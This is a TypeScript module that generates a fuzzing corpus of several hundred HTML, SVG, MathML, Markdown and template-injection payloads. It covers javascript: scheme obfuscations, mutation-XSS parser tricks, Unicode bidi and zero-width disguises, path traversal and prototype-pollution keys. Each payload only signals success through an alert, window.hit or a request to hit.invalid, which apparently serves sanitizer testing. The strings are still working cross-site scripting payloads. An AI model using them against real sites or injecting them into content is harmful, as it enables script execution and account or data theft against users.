/**
 * Texts that try to become more than text, made by combination: what may carry code, what starts it, and what disguises it. Each
 * says where it would be seen: it sets `window.hit`, opens a dialog, or asks for an address with `hit.invalid` in it.
 */

const run = (index: number): string => `window.hit=${index};alert(${index})`;
const away = 'http://hit.invalid/';

/** Elements that run or fetch something by themselves. */
const elements: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  () => `<script src="${away}s.js"></script>`,
  (code) => `<img src=x onerror="${code}">`,
  () => `<img src="${away}p.png">`,
  (code) => `<svg onload="${code}"></svg>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>press</text></a></svg>`,
  () => `<svg><use href="${away}u.svg#x"></use></svg>`,
  (code) => `<svg><foreignObject><iframe srcdoc="<script>${code}</script>"></iframe></foreignObject></svg>`,
  (code) => `<math><mi xlink:href="javascript:${code}">press</mi></math>`,
  (code) => `<math><maction actiontype="statusline" href="javascript:${code}">press</maction></math>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  () => `<iframe src="${away}f.html"></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  () => `<embed src="${away}e.swf">`,
  (code) => `<video><source onerror="${code}"></video>`,
  () => `<video src="${away}v.mp4" autoplay></video>`,
  () => `<audio src="${away}a.ogg" autoplay></audio>`,
  (code) => `<body onload="${code}">`,
  (code) => `<details open ontoggle="${code}">more</details>`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<marquee onstart="${code}">news</marquee>`,
  (code) => `<form action="javascript:${code}"><button>press</button></form>`,
  (code) => `<button formaction="javascript:${code}" form=f>press</button>`,
  () => `<link rel=stylesheet href="${away}l.css">`,
  () => `<style>@import url("${away}i.css"); * { display: none }</style>`,
  () => `<style>body { background: url(${away}b.png) }</style>`,
  () => `<meta http-equiv=refresh content="0;url=${away}m.html">`,
  () => `<base href="${away}">`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<textarea></textarea><script>${code}</script>`,
  (code) => `<select><option><img src=x onerror="${code}"></option></select>`,
];

/** Handlers that need nobody's hand, on elements that Markdown or a name might let through. */
const handlers = ['onerror', 'onload', 'onfocus', 'onanimationstart', 'ontransitionend', 'onpointerover', 'onclick'];
const hosts = ['p', 'a href=#', 'code', 'td', 'h1'];

/** Ways of writing a link's scheme that runs. */
const schemes: readonly string[] = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6a;avascript&#58;',
  'javascript\u200b:',
  'j\u0430v\u0430script:',
  'view-source:javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4',
  'vbscript:',
  'blob:',
  'file:///',
  'about:blank#',
];
const links: readonly ((target: string) => string)[] = [
  (target) => `[press here](${target})`,
  (target) => `[press here](<${target}> "a title")`,
  (target) => `<${target}>`,
  (target) => `![a picture](${target})`,
  (target) => `[press][1]\n\n[1]: ${target}`,
];

/** Tricks of Markdown and of parsers that read twice. */
const tricks: readonly ((code: string) => string)[] = [
  () => `![](${away}1.png)`,
  () => `[![](${away}2.png)](${away})`,
  (code) => `[x](http://a.invalid/"onmouseover="${code})`,
  (code) => `[x](http://a.invalid 'title"><img src=x onerror=${code}>')`,
  (code) => `\`\`\`html\n<img src=x onerror="${code}">\n\`\`\``,
  (code) => `\`\`\`"><script>${code}</script>\ncode\n\`\`\``,
  (code) => `| a | <img src=x onerror="${code}"> |\n|---|---|\n| b | c |`,
  (code) => `# <svg onload="${code}">`,
  (code) => `> <script>${code}</script>`,
  (code) => `1. <img src=x\n onerror="${code}">`,
  (code) => `<!-- --!><img src=x onerror="${code}"> -->`,
  (code) => `<![CDATA[><img src=x onerror="${code}">]]>`,
  (code) => `<?xml ?><img src=x onerror="${code}">`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `<svg></p><style><g title="</style><img src=x onerror=${code}>">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  (code) => `<a href="http://a.invalid" target=_self onclick="${code}">press</a>`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `\\<script>${code}\\</script>`,
  () => `http://user:secret@hit.invalid@a.invalid/`,
  () => `//hit.invalid/no-scheme`,
  () => `[looks like a.invalid](http://xn--80ak6aa92e.invalid/)`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}`,
  (code) => `{@html "<img src=x onerror=${code}>"}`,
  (code) => `<%= ${code} %>`,
  (code) => `');${code};//`,
  (code) => `";${code};"`,
];

/** Characters that hide, turn around or end what they stand in. */
const disguises: readonly ((code: string) => string)[] = [
  (code) => `<scr\u0000ipt>${code}</scr\u0000ipt>`,
  (code) => `<\u0000img src=x onerror="${code}">`,
  (code) => `<img\u000csrc=x\u000conerror="${code}">`,
  (code) => `<img/src=x/onerror=${code}>`,
  (code) => `\uff1cscript\uff1e${code}\uff1c/script\uff1e`,
  (code) => `\u202e<script>${code}</script>\u202c`,
  () => `photo\u202egnp.exe`,
  () => `\u2066left\u2069\u2067right\u2069`,
  () => `\u200f\u061cturned\u200e`,
  () => `line\u2028separated\u2029twice`,
  () => `\ud800<alone>\udc00`,
  () => `\ufeff\u00ad\u2060hidden`,
  () => `a${'\u0301'.repeat(200)}`,
  () => `\u001b]8;;${away}\u0007press\u001b]8;;\u0007`,
  () => `..\\..\\hit:stream?*|"<>`,
  () => `../../../hit`,
  () => `__proto__`,
  () => `constructor`,
  () => `<a id=banyan name=banyan>clobbered</a>`,
  () => `<form name=document><input name=location></form>`,
];

function build(): string[] {
  const makers: ((code: string) => string)[] = [
    ...elements,
    ...hosts.flatMap((host) =>
      handlers.map((handler) => (code: string) => `<${host} ${handler}="${code}" tabindex=0 autofocus>press</${host}>`),
    ),
    ...schemes.flatMap((scheme) =>
      links.map((link) => (code: string) => link(`${scheme}${code.replaceAll(';', '%3B')}`)),
    ),
    ...tricks,
    ...disguises,
  ];
  return makers.map((make, index) => make(run(index + 1)));
}

/** All of them, each different. */
export const payloads: readonly string[] = build();
